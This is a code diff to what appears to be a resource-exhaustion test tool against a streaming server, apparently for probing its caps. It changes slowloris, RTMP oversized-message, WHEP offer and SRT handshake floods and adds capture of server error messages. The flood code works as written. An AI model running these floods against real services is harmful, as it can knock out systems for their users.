@@ -29,6 +29,7 @@ from dataclasses import dataclass, field
 from typing import Any
 
 MiB = 1024 * 1024
+RTMP_MAX_LENGTH = 0xFFFFFF  # a message header's length field is 24 bits: 16 MiB - 1 is the most one can announce
 
 
 @dataclass
@@ -38,6 +39,7 @@ class Stats:
     counters: dict[str, Counter[str]] = field(default_factory=dict)
     held: dict[str, int] = field(default_factory=dict)
     peak_held: dict[str, int] = field(default_factory=dict)
+    notes: dict[str, dict[str, str]] = field(default_factory=dict)
 
     def add(self, attack: str, what: str, n: int = 1) -> None:
         self.counters.setdefault(attack, Counter())[what] += n
@@ -47,10 +49,17 @@ class Stats:
         self.held[attack] = now
         self.peak_held[attack] = max(self.peak_held.get(attack, 0), now)
 
+    def note(self, attack: str, what: str, message: str) -> None:
+        """Keep the first message seen for ``what`` (e.g. why a status was refused)."""
+        self.notes.setdefault(attack, {}).setdefault(what, message)
+
     def report(self) -> dict[str, Any]:
-        return {
-            name: {**dict(counts), "peak_held": self.peak_held.get(name, 0)} for name, counts in self.counters.items()
-        }
+        out: dict[str, Any] = {}
+        for name, counts in self.counters.items():
+            out[name] = {**dict(counts), "peak_held": self.peak_held.get(name, 0)}
+            if name in self.notes:
+                out[name]["first_messages"] = self.notes[name]
+        return out
 
 
 class Pacer:
@@ -168,6 +177,8 @@ def amf0(*values: Any) -> bytes:
 def rtmp_chunks(csid: int, type_id: int, payload: bytes, *, length: int | None = None, chunk: int = 128) -> bytes:
     """A fmt-0 message header on ``csid`` (announcing ``length`` bytes) and the first ``payload`` bytes, chunked."""
     size = len(payload) if length is None else length
+    if size > RTMP_MAX_LENGTH:
+        raise ValueError(f"an RTMP message header cannot announce {size} bytes")
     out = bytearray(struct.pack(">B", csid) + struct.pack(">I", 0)[1:] + struct.pack(">I", size)[1:])
     out += struct.pack(">B", type_id) + struct.pack("<I", 0)
     for i in range(0, len(payload), chunk):
@@ -338,8 +349,8 @@ def whep_offer() -> str:
     return "\r\n".join(lines) + "\r\n"
 
 
-async def whep_post(args: argparse.Namespace) -> int:
-    """POST one offer over a fresh connection; the HTTP status (the session, if any, is simply abandoned)."""
+async def whep_post(args: argparse.Namespace) -> tuple[int, str]:
+    """POST one offer over a fresh connection: (HTTP status, error message if any). The session is abandoned."""
     body = whep_offer().encode()
     request = (
         f"POST /{args.path}/whep HTTP/1.1\r\nHost: {args.host}:{args.whep_port}\r\n"
@@ -350,11 +361,23 @@ async def whep_post(args: argparse.Namespace) -> int:
     try:
         writer.write(request)
         await writer.drain()
-        status_line = await asyncio.wait_for(reader.readline(), 15)
-        parts = status_line.split()
-        return int(parts[1]) if len(parts) >= 2 and parts[1].isdigit() else 0
+        async with asyncio.timeout(15):
+            parts = (await reader.readline()).split()
+            status = int(parts[1]) if len(parts) >= 2 and parts[1].isdigit() else 0
+            if status in (0, 201):
+                return status, ""
+            answer = await reader.read(8192)  # the rest of the headers and a small JSON error
+        return status, _error_message(answer)
     finally:
         writer.transport.abort()
+
+
+def _error_message(answer: bytes) -> str:
+    _, _, body = answer.partition(b"\r\n\r\n")
+    try:
+        return str(json.loads(body)["error"]["message"])[:200]
+    except (ValueError, KeyError, TypeError):
+        return body[:200].decode(errors="replace")
 
 
 async def whep_flood(args: argparse.Namespace, stats: Stats, stop: asyncio.Event) -> None:
@@ -364,8 +387,10 @@ async def whep_flood(args: argparse.Namespace, stats: Stats, stop: asyncio.Event
         while not stop.is_set():
             await pacer.wait()
             try:
-                status = await whep_post(args)
+                status, message = await whep_post(args)
                 stats.add("whep", f"status_{status}")
+                if message:
+                    stats.note("whep", f"status_{status}", message)
             except (OSError, TimeoutError) as exc:
                 stats.add("whep", f"error_{type(exc).__name__}")
 
@@ -396,7 +421,9 @@ async def attack(args: argparse.Namespace, stats: Stats) -> None:
     if args.rtmp and args.rtmp_port:
         pacer = Pacer(args.open_rate / 4)  # each costs a 3 KB handshake on both sides
         over, under = args.rtmp // 2, args.rtmp - args.rtmp // 2
-        jobs.append(keep_slots("rtmp_over_cap", over, pacer, stats, rtmp_flood(args, 16 * MiB, "rtmp_over_cap"), stop))
+        jobs.append(
+            keep_slots("rtmp_over_cap", over, pacer, stats, rtmp_flood(args, RTMP_MAX_LENGTH, "rtmp_over_cap"), stop)
+        )
         held = rtmp_flood(args, args.rtmp_held_size, "rtmp_under_cap")
         jobs.append(keep_slots("rtmp_under_cap", under, pacer, stats, held, stop))
     if args.srt_callers and args.srt_port:
@@ -431,7 +458,9 @@ def parse(argv: list[str] | None = None) -> argparse.Namespace:
     p.add_argument("--open-rate", type=float, default=400.0, help="new slowloris connections a second")
     p.add_argument("--slowloris", type=int, default=2000, help="sockets held open to the HTTP port")
     p.add_argument("--slowloris-interval", type=float, default=4.0, help="seconds between header bytes")
-    p.add_argument("--rtmp", type=int, default=400, help="RTMP sockets: half announce 16 MiB, half --rtmp-held-size")
+    p.add_argument(
+        "--rtmp", type=int, default=400, help="RTMP sockets: half announce 16 MiB - 1, half --rtmp-held-size"
+    )
     p.add_argument("--rtmp-held-size", type=int, default=8 * MiB - 1024, help="just under the default cap")
     p.add_argument("--rtmp-interval", type=float, default=2.0, help="seconds between trickled writes")
     p.add_argument("--srt-callers", type=int, default=8, help="UDP sockets sending handshakes")
